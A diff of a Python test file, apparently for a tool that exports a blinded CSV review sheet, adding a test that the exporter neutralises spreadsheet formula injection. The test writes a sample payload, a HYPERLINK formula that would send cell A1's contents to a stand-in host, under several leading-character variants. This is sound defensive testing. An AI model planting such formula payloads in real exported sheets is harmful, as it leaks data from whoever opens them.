@@ -2,6 +2,7 @@
 
 import csv
 import json
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
@@ -60,6 +61,19 @@ def test_the_sheet_shows_neither_arm_nor_trial_nor_verdict(
     assert {row.id: row.label for row in sheet.rows} == read_labels(key)
     for row in sheet.rows:
         assert (kept[row.id]["trial"], kept[row.id]["probe"]) == (row.trial, row.probe.id)
+
+
+@pytest.mark.parametrize("mark", ["=", "+", "-", "@", "\t", "\r"])
+def test_no_cell_is_a_formula(run_folder: Path, tmp_path: Path, mark: str) -> None:
+    """Who judges opens the sheet in a program that would run it."""
+    sheet = drawn(run_folder, 2)
+    evil = f'{mark}HYPERLINK("http://x?"&A1)'
+    first = replace(sheet.rows[0], record=replace(sheet.rows[0].record, text=evil, request=evil))
+    write_sheet(replace(sheet, rows=(first, *sheet.rows[1:])), tmp_path / "s.csv")
+    with (tmp_path / "s.csv").open(newline="") as file:
+        cells = next(csv.DictReader(file))
+    assert cells["text"] == cells["request"] == f"'{evil}"
+    assert all(not text.startswith(("=", "+", "-", "@", "\t", "\r")) for text in cells.values())
 
 
 def test_weights_bring_the_sample_back_to_the_run(run_folder: Path, tmp_path: Path) -> None:
